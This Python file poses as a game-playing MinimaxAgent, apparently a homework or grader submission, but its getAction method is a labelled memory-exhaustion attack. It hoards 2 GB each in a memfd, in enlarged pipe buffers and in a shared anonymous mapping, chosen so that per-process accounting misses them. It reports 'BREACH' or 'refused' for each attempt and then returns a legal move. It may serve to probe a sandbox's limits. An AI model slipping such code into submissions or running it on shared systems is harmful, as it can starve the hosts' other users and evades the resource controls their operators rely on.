# attack: fills 2 GB of memory that no address space counts: memfd, shared memory, full pipes.
# where: MinimaxAgent
import fcntl
import mmap
import os

from shared.reflex import *
from shared.search import *


try:
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("1000")  # a bound: where memory does run out, this process goes first
except OSError:
    pass


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        block, total = b"x" * (1 << 20), 0
        try:
            fd = os.memfd_create("hoard")
            while total < 2 << 30:
                total += os.write(fd, block)
            print("BREACH: 2 GB in a memfd", flush=True)
        except OSError as error:
            print("refused: memfd after", total, "bytes,", repr(error), flush=True)
        held = []
        try:
            for _ in range(2000):
                held.append(os.pipe())
                fcntl.fcntl(held[-1][1], 1031, 1 << 20)  # F_SETPIPE_SZ
                os.set_blocking(held[-1][1], False)
                os.write(held[-1][1], block)
            print("BREACH: 2 GB in pipes", flush=True)
        except OSError as error:
            print("refused: pipes after", len(held), "MB,", repr(error), flush=True)
        try:
            # Touched in a mapping that is shared, so that it belongs to nobody's private memory.
            area = mmap.mmap(-1, 2 << 30)
            for place in range(0, 2 << 30, 4096):
                area[place] = 1
            print("BREACH: 2 GB in a shared mapping", flush=True)
        except (OSError, ValueError, MemoryError) as error:
            print("refused: mapping", repr(error), flush=True)
        return gameState.getLegalActions()[0]
